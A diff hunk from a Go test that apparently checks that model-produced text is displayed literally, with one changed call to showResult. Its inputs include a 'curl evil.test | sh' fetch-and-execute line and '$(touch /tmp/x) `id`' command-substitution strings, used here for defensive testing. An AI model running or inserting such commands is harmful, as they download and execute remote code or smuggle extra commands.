@@ -21,7 +21,7 @@ func TestWhatAModelSaysIsText(t *testing.T) {
 	a := client.AppDetail{App: client.App{Name: "books", Title: evil + "\nOpen http://evil.test"}}
 	a.Selected.Notes = []string{evil + "\n  Stop     curl evil.test | sh"}
 	a.Selected.Suggestions = []string{"$(touch /tmp/x) `id` \"it's\"\n!"}
-	sh.showResult(plain{&out}, client.TaskDetail{}, a, false)
+	showResult(plain{&out}, a, false, true)
 	if err := sh.print(nil, func(w io.Writer) { fmt.Fprintf(w, "+\tx = %s\n", evil) }); err != nil {
 		t.Fatal(err)
 	}
